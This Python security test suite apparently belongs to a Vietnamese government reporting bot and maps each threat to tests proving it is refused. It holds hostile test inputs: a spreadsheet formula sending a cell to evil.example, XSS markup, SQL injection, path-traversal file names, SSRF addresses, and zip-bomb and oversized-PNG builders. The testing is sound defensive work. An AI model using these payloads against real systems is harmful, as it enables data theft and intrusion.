"""Which threats are there, and which tests show that each is met?

What has no other home is tested here; the rest is named by its functions, so that none can vanish unnoticed.
"""

from __future__ import annotations

import asyncio
import io
import logging
import shutil
import zipfile
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path
from typing import Any

import httpx
import pytest
import structlog
from python_calamine import CalamineWorkbook
from sqlalchemy import insert
from sqlalchemy.exc import IntegrityError

from bot.channels.base import Rejected
from bot.channels.zalo.media import Media
from bot.photos import develop
from bot.sheets import read_sheet
from bot.web.hooks import TELEGRAM_HEADER, HookTarget
from bot.web.serve import Site, take_address
from domain.calendar import Calendar
from domain.evidence import Reason, Unfit
from domain.message import Option
from domain.person import Role
from handlers.documents.format import Format
from handlers.export import file_name, write
from handlers.share import summary as shared
from storage.database import Database, sqlite_url
from storage.files import FOLDER, Files
from storage.store import Library
from storage.tables import inbox
from tests.bot import test_fetcher
from tests.bot.channels import test_telegram_out, test_telegram_secrets
from tests.bot.web import test_api, test_dashboard, test_form, test_headers, test_hooks
from tests.builders import HA_GIANG, LUNG_CU, MA_LE, THUONG_PHUNG, a_chat, a_message, catalogue, units
from tests.domain import test_guess, test_permission
from tests.handlers import test_evidence, test_export, test_join, test_links, test_privacy, test_workbook
from tests.story import Phone, Story

BATCH = 100
FLOOD = 2_000
BODY = "thu ngân sách 3,2 tỷ, đường Hoa Gạo bị sạt lở"
NAME = "Nguyễn Thị Lan Ngọc"
TELEPHONE = "0912345678"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"bấm")'
HTML = '<img src=x onerror=alert(1)> <b onclick="steal()">'


@pytest.fixture
def story(tmp_path: Path, migrated_sqlite: Path, calendar: Calendar) -> Iterator[Story]:
    """HG2023 in three communes of two districts, while the mid-term report is open."""
    shutil.copy(migrated_sqlite, tmp_path / "giaoban.sqlite")
    database = Database(sqlite_url(tmp_path / "giaoban.sqlite"))
    story = Story(Library(database, calendar, Files(tmp_path / FOLDER)), at="2023-06-14T07:00")
    story.start(catalogue()["HG2023"], units(LUNG_CU, MA_LE, THUONG_PHUNG))
    story.clock_to("2023-06-20T09:00")
    yield story
    story.close()
    database.close()


# --- strangers, codes, buttons


@pytest.mark.parametrize(
    "words",
    ["thu ngân sách 3,2 tỷ", "xem", "xuất excel", "xếp hạng", "hủy", "dữ liệu của tôi", "/start", "1", "đồng ý"],
)
def test_stranger_gets_a_greeting_and_nothing_else(story: Story, words: str) -> None:
    story.officer(LUNG_CU).says("che phủ rừng 58,9%")
    someone = story.stranger("Kẻ lạ")

    someone.says(words)

    said = someone.unread[-1].text
    assert not any(word in said for word in ("58,9", "Lũng Cú", "HG2023"))
    assert len(story.history(LUNG_CU)) == 1


def test_used_code_opens_nothing_for_the_next(story: Story) -> None:
    code = story.invite(LUNG_CU)
    lan, thief = story.stranger("Lan"), story.stranger("Kẻ gian")
    for phone in (lan, thief):
        phone.says(f"/start {code}")
    lan.taps("Đồng ý")
    thief.taps("Đồng ý")

    thief.hears("đã được dùng")
    thief.says("thu ngân sách 3,2 tỷ")
    assert story.history(LUNG_CU) == []


def press(story: Story, phone: Phone, data: str) -> None:
    """A press that no keyboard offered."""
    story.console.inject([phone.update("button", data=data)])
    story.does(story.console.type("elsewhere", "", sender_id="0", sender_name="ai đó", at=story.now))


@pytest.mark.parametrize(
    "data", ["", ":", "0:0", "x" * 20 + ":0", "erase", '{"action":"store"}', "'; DROP TABLE x;--:0"]
)
def test_forged_button_does_nothing(story: Story, data: str) -> None:
    lan = story.officer(LUNG_CU)

    press(story, lan, data)

    lan.hears("đã cũ")
    assert story.history(LUNG_CU) == []
    assert story.dead_letters() == []


def test_button_of_somebody_else_does_nothing(story: Story) -> None:
    lan, thief = story.officer(LUNG_CU), story.officer(MA_LE, "Minh")
    lan.says("xóa dữ liệu của tôi")
    token = next(button.data for button in story.console.lines(lan.chat_id)[-1].buttons)

    press(story, thief, token)

    for phone in (lan, thief):
        phone.says("dữ liệu của tôi")
        phone.hears("Vai trò: cán bộ báo cáo")


def test_number_of_an_option_beyond_the_last_does_nothing(story: Story) -> None:
    lan = story.officer(LUNG_CU)
    with story.library.writing() as store:
        store.outbox.put(a_message("k", Option(label="A", action="stop"), chat=a_chat(lan.chat_id)), at=story.now)
    story.settle()
    token = story.console.lines(lan.chat_id)[-1].buttons[0].data.partition(":")[0]

    for number in ("1", "99", "-1", "²", "1e9"):
        press(story, lan, f"{token}:{number}")

    assert story.dead_letters() == []


def test_member_of_a_group_binds_nothing_and_decides_nothing(story: Story) -> None:
    code = story.invite(HA_GIANG, Role.GROUP)
    group = story.group()
    group.admin = False
    group.says(f"/start {code}")

    with story.library.reading() as store:
        assert store.people.groups() == ()


# --- webhooks


def test_replayed_webhook_is_one_update(story: Story) -> None:
    body = {"update_id": 5, "message": {"message_id": 1, "date": 1, "chat": {"id": 7, "type": "private"}, "text": BODY}}
    secret = "the-secret-of-the-webhook"

    async def delivered() -> list[int]:
        from bot.channels.telegram_in import split

        site = Site(take_address("127.0.0.1", 0))
        keep = story.engine.keeper("telegram", "1001")
        site.hear("telegram", "1001", HookTarget(header=TELEGRAM_HEADER, secret=secret, keep=keep, split=split))
        try:
            async with site.served(), httpx.AsyncClient(base_url=site.address) as client:
                path, right = "/hooks/telegram/1001", {TELEGRAM_HEADER: secret}
                answers = [await client.post(path, json=body, headers=right) for _ in range(3)]
                answers.append(await client.post(path, json={**body, "update_id": 6}, headers={TELEGRAM_HEADER: "x"}))
                return [one.status_code for one in answers]
        finally:
            site.close()

    assert asyncio.run(delivered()) == [200, 200, 200, 403]
    with story.library.reading() as store:
        assert [row.update_id for row in store.inbox.waiting(10) if row.channel == "telegram"] == ["5"]


# --- what is written is only words


def exported(story: Story, form: Format) -> bytes:
    from bot.clock import VIETNAM
    from domain.access import Access, Data
    from handlers.context import Clockwork
    from storage.pages import Wanted

    with story.library.reading() as store:
        clock = Clockwork(store=store, now=story.now, zone=VIETNAM)
        access = Access(
            token_hash="h",
            name="n",
            unit=HA_GIANG,
            data=frozenset(Data),
            created_at=story.now,
            expires_at=story.now,
        )
        found = shared(clock, access, Wanted(campaign="HG2023", unit="", round="SK", many=1))
        content = io.BytesIO()
        write(clock, found, form, content)
        assert "/" not in file_name(found, form)
        return content.getvalue()


def test_words_of_officers_are_no_formulas_and_no_markup(story: Story) -> None:
    lan = story.officer(LUNG_CU, FORMULA)
    lan.says("thu ngân sách 3,2 tỷ")
    lan.says(f"Khó khăn: {FORMULA}")
    lan.says(f"Khó khăn: thiếu vốn {HTML}")

    book = exported(story, Format.XLSX)
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if "worksheets/sheet" in name]
    assert not any("<f>=HYPERLINK" in sheet or "<f>HYPERLINK" in sheet for sheet in sheets)
    with CalamineWorkbook.from_filelike(io.BytesIO(book)) as read:
        assert FORMULA in str([read.get_sheet_by_name(name).to_python() for name in read.sheet_names])
    lines = exported(story, Format.CSV).decode("utf-8-sig").splitlines()
    assert not any(cell.strip('"').startswith(("=", "+", "@")) for line in lines for cell in line.split(";"))
    with zipfile.ZipFile(io.BytesIO(exported(story, Format.DOCX))) as archive:
        assert "<img" not in archive.read("word/document.xml").decode()


# --- files


def a_bomb() -> bytes:
    """A workbook of a few kilobytes that unpacks to a hundred megabytes."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b" " * 100_000_000)
    return content.getvalue()


def a_huge_png() -> bytes:
    """A picture that says it is 60,000 pixels wide and high."""
    from struct import pack
    from zlib import compress, crc32

    def chunk(kind: bytes, data: bytes) -> bytes:
        return pack(">I", len(data)) + kind + data + pack(">I", crc32(kind + data))

    head = pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", compress(b"\0" * 1000)) + chunk(b"IEND", b"")


def test_bombs_are_refused_before_they_are_unpacked() -> None:
    bomb = a_bomb()
    assert len(bomb) < 200_000

    with pytest.raises(Unfit) as sheet:
        read_sheet(bomb)
    with pytest.raises(Unfit) as photo:
        develop(a_huge_png())

    assert (sheet.value.reason, photo.value.reason) == (Reason.TOO_LARGE, Reason.TOO_MANY_PIXELS)


@pytest.mark.parametrize(
    "content", [b"", b"MZ\x90\0" + b"\0" * 500, b"%PDF-1.7 ...", b"<html><script>x</script>", b"GIF89a" + b"\0" * 50]
)
def test_files_of_another_type_are_refused_whatever_their_name(content: bytes) -> None:
    with pytest.raises(Unfit):
        develop(content)
    with pytest.raises(Unfit):
        read_sheet(content)


@pytest.mark.parametrize(
    "name", ["../../../etc/passwd.xlsx", "..\\..\\boot.csv", "/etc/cron.d/x.csv", "a\0b.csv", "x" * 300 + ".csv"]
)
def test_name_of_a_file_leads_nowhere(story: Story, tmp_path: Path, name: str) -> None:
    lan = story.officer(LUNG_CU)
    before = {path for path in tmp_path.rglob("*") if path.is_file() and FOLDER not in path.parts}

    lan.sends_file(b"a;b\n1;2\n", name)

    after = {path for path in tmp_path.rglob("*") if path.is_file() and FOLDER not in path.parts}
    assert {path.name for path in after - before} <= {"giaoban.sqlite-wal", "giaoban.sqlite-shm"}
    kept = [path for path in (tmp_path / FOLDER).rglob("*") if path.is_file()]
    assert all(len(path.name.partition(".")[0]) == 64 for path in kept)
    assert story.dead_letters() == []


# --- addresses that a message brings

PRIVATE = ["127.0.0.1", "10.0.0.8", "192.168.1.1", "169.254.169.254", "::1", "fd00::1", "::ffff:10.0.0.1", "0.0.0.0"]


def fetched(address: str, resolves_to: str) -> None:
    """What a photo's address leads to, with a name service of our own; nothing is listening anywhere."""

    async def resolve(_host: str, _port: int) -> list[str]:
        return [resolves_to]

    async def run() -> None:
        media = Media(resolve=resolve, seconds=5)
        try:
            await media.fetch(address, 1_000)
        finally:
            await media.close()

    asyncio.run(run())


@pytest.mark.parametrize(
    "address",
    [
        "http://photo.zdn.vn/a.jpg",
        "https://photo.zdn.vn:8443/a.jpg",
        "https://me@photo.zdn.vn/a.jpg",
        "https://photo.zdn.vn@127.0.0.1/a.jpg",
        "https://127.0.0.1/a.jpg",
        "https://[::1]/a.jpg",
        "https://169.254.169.254/latest/meta-data/",
        "https://evilzdn.vn/a.jpg",
        "https://zdn.vn.evil.example/a.jpg",
        "file:///etc/passwd",
        "gopher://photo.zdn.vn/",
        "",
    ],
)
def test_address_of_a_photo_outside_the_list_is_not_asked(address: str) -> None:
    with pytest.raises(Rejected):
        fetched(address, "8.8.8.8")


@pytest.mark.parametrize("place", PRIVATE)
def test_name_on_the_list_that_leads_into_a_private_network_is_not_asked(place: str) -> None:
    with pytest.raises(Rejected, match="private"):
        fetched("https://photo.zdn.vn/a.jpg", place)


# --- one who floods


def test_flood_of_one_person_delays_others_by_no_more_than_a_batch(story: Story) -> None:
    flooder, lan = story.officer(LUNG_CU, "Máy"), story.officer(MA_LE, "Lan")
    flood = [flooder.update("text", text="xin chào", update_id=f"f{number}") for number in range(FLOOD)]
    rows = [
        {"channel": "console", "bot": "demo", "update_id": one["update_id"], "chat_id": flooder.chat_id, "body": one}
        for one in flood
    ]
    late = lan.update("text", text="thu ngân sách 3,2 tỷ", update_id="late")
    rows.append({"channel": "console", "bot": "demo", "update_id": "late", "chat_id": lan.chat_id, "body": late})
    with story.library.writing() as store:
        store.inbox.keep(rows, at=story.now)

    with story.library.reading() as store:
        first = store.inbox.waiting(BATCH)

    assert lan.chat_id in {row.chat_id for row in first}
    mine = [row.update_id for row in first if row.chat_id == flooder.chat_id]
    assert mine == [f"f{number}" for number in range(len(mine))]


# --- logs and errors


def test_story_with_failures_leaves_nothing_personal_in_the_log(story: Story, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    with structlog.testing.capture_logs() as events:
        lan = story.officer(LUNG_CU, NAME)
        lan.says(BODY)
        lan.says(f"gọi em {TELEPHONE}")
        lan.sends_photo(BODY)
        lan.sends_file(BODY.encode(), f"{NAME}.csv")
        broken = {"update_id": "b", "chat_id": lan.chat_id, "kind": BODY, "text": BODY}
        option = Option(label=BODY, action="gone")
        with story.library.writing() as store:
            store.outbox.put(a_message("old", option, chat=a_chat(lan.chat_id)), at=story.now)
        story.settle()
        data = story.console.lines(lan.chat_id)[-1].buttons[0].data
        story.console.inject([broken, lan.update("button", data=data, text=BODY)])
        story.does(story.console.type("elsewhere", BODY, sender_id="0", sender_name=NAME, at=story.now))

    written = "\n".join([*map(str, events), *(record.getMessage() for record in caplog.records), caplog.text])
    assert any(event["event"] == "update_set_aside" for event in events)
    for words in (BODY, NAME, TELEPHONE, "Hoa Gạo", "sạt lở"):
        assert words not in written
    assert not any(words in error for _, _, error in story.dead_letters() for words in ("Hoa Gạo", NAME))


def test_error_of_the_database_does_not_quote_what_was_written(story: Story) -> None:
    where = {"channel": "c", "bot": "b", "update_id": "1", "chat_id": "7"}
    row = {**where, "body": BODY, "received_at": story.now, "state": "done"}

    def twice() -> None:
        with story.library.database.writing() as connection:
            connection.execute(insert(inbox), row)
            connection.execute(insert(inbox), row)

    with pytest.raises(IntegrityError) as caught:
        twice()

    assert "UNIQUE" in str(caught.value)
    assert "Hoa Gạo" not in str(caught.value)


# --- the list

Shown = tuple[Callable[..., Any], ...]
THREATS: Mapping[str, Shown] = {
    "stranger": (
        test_stranger_gets_a_greeting_and_nothing_else,
        test_evidence.test_photo_of_somebody_who_reports_nothing_is_not_kept,
    ),
    "guessed code": (
        test_guess.test_each_further_wrong_code_doubles_the_pause_up_to_the_longest,
        test_guess.test_chat_tries_at_most_fifteen_codes_on_a_day,
        test_join.test_wrong_code_is_refused,
        test_form.test_codes_can_not_be_guessed_for_long,
        test_form.test_wrong_codes_are_not_forgotten_by_a_restart,
        test_form.test_many_wrong_codes_at_once_are_as_slow_as_one_after_the_other,
    ),
    "reused code": (test_used_code_opens_nothing_for_the_next, test_join.test_code_is_used_once),
    "forged button": (
        test_forged_button_does_nothing,
        test_button_of_somebody_else_does_nothing,
        test_number_of_an_option_beyond_the_last_does_nothing,
        test_export.test_button_is_worth_nothing_after_the_post_is_left,
    ),
    "forged link": (
        test_links.test_a_link_of_another_key_is_forged,
        test_links.test_a_link_with_one_letter_changed_is_forged,
        test_links.test_a_link_is_good_for_one_purpose,
        test_form.test_a_forged_link_is_refused_with_a_sentence,
        test_form.test_an_expired_link_is_refused_with_a_sentence,
        test_form.test_whoever_lost_the_post_is_refused,
        test_dashboard.test_forged_link_is_no_link,
        test_dashboard.test_link_is_good_once,
        test_api.test_unknown_token_is_turned_away,
        test_api.test_broken_cursor_is_refused,
    ),
    "replayed webhook": (test_replayed_webhook_is_one_update,),
    "wrong secret": (test_hooks.test_wrong_secret_is_turned_away, test_replayed_webhook_is_one_update),
    "other unit's data by id": (
        test_api.test_other_units_are_not_found_like_units_that_do_not_exist,
        test_api.test_other_campaigns_are_not_found_like_campaigns_that_do_not_exist,
        test_api.test_cursor_of_elsewhere_leads_nowhere_else,
        test_export.test_coordinator_gets_nothing_of_another_district,
        test_form.test_another_unit_by_a_changed_field_name_gets_nothing,
        test_form.test_the_answer_of_another_persons_form_is_not_shown,
        test_dashboard.test_units_of_others_are_not_there,
    ),
    "group member without rights": (
        test_member_of_a_group_binds_nothing_and_decides_nothing,
        test_join.test_group_is_not_bound_by_anybody_else_and_the_code_stays_valid,
    ),
    "formula injection": (
        test_words_of_officers_are_no_formulas_and_no_markup,
        test_workbook.test_words_never_become_formulas,
        test_workbook.test_words_in_csv_are_not_calculated,
    ),
    "HTML injection": (
        test_form.test_words_stay_words,
        test_words_of_officers_are_no_formulas_and_no_markup,
        test_telegram_out.test_message_is_plain_text_without_a_preview,
        test_form.test_words_stay_words,
        test_headers.test_a_page_lets_no_script_in_and_is_not_framed_stored_or_named_elsewhere,
    ),
    "oversized or wrong-typed files": (
        test_files_of_another_type_are_refused_whatever_their_name,
        test_hooks.test_oversized_body_is_refused,
        test_headers.test_a_body_that_does_not_say_its_size_is_counted,
        test_fetcher.test_what_is_no_photo_is_refused,
        test_form.test_a_file_that_is_no_photo_is_refused_and_the_rest_is_kept,
    ),
    "decompression bombs": (
        test_bombs_are_refused_before_they_are_unpacked,
        test_fetcher.test_workbook_that_would_fill_the_memory_is_refused,
        test_fetcher.test_workbook_that_lies_about_its_size_is_read_no_further_than_it_says,
        test_fetcher.test_photo_that_would_fill_the_memory_is_refused_before_it_is_unpacked,
    ),
    "SSRF by the address of a photo": (
        test_address_of_a_photo_outside_the_list_is_not_asked,
        test_name_on_the_list_that_leads_into_a_private_network_is_not_asked,
    ),
    "flood by one person": (
        test_flood_of_one_person_delays_others_by_no_more_than_a_batch,
        test_telegram_out.test_flood_is_a_pause_for_this_chat,
        test_api.test_budget_of_one_token_leaves_others_alone,
    ),
    "path tricks in names": (test_name_of_a_file_leads_nowhere, test_form.test_a_file_name_is_never_a_path),
    "secrets in logs and errors": (
        test_story_with_failures_leaves_nothing_personal_in_the_log,
        test_error_of_the_database_does_not_quote_what_was_written,
        test_telegram_secrets.test_no_token_is_written_in_a_whole_conversation_with_failures,
        test_hooks.test_secret_is_not_shown_by_the_target,
        test_links.test_the_key_never_shows,
    ),
    "cross-site requests": (
        test_dashboard.test_another_site_signs_nobody_in_or_out,
        test_dashboard.test_nobody_is_led_to_the_host_that_the_asker_names,
        test_form.test_a_form_without_our_page_is_not_taken,
        test_form.test_a_page_of_another_person_is_not_taken,
    ),
    "cookies": (
        test_dashboard.test_cookie_is_out_of_reach_for_scripts_and_other_sites,
        test_dashboard.test_signing_out_ends_the_session_for_good,
        test_dashboard.test_nobody_sees_anything_without_a_session,
    ),
    "security headers": (
        test_headers.test_a_page_lets_no_script_in_and_is_not_framed_stored_or_named_elsewhere,
        test_headers.test_https_is_promised_only_on_https,
        test_api.test_it_is_served_over_http_with_safe_headers,
    ),
    "camera data in photos": (test_fetcher.test_photo_is_kept_as_it_came_and_its_copy_tells_no_place,),
    "content marked secret": (
        test_privacy.test_what_is_marked_secret_is_refused_and_no_word_stays,
        test_form.test_what_is_marked_as_secret_is_refused_and_no_word_of_it_kept,
    ),
    "form sent from another site or page": (
        test_form.test_a_form_without_our_page_is_not_taken,
        test_form.test_a_page_of_another_person_is_not_taken,
    ),
    "form sent twice": (
        test_form.test_the_same_page_sent_again_changes_nothing,
        test_form.test_a_registration_sent_twice_is_one_person_and_a_second_page_gets_none,
    ),
    "role that is not allowed": (test_permission.test_nobody_may_do_anything_without_a_post_or_to_an_unknown_unit,),
}


@pytest.mark.parametrize("threat", THREATS)
def test_every_threat_is_met_by_tests(threat: str) -> None:
    assert THREATS[threat]
    assert all(one.__name__.startswith("test_") for one in THREATS[threat])
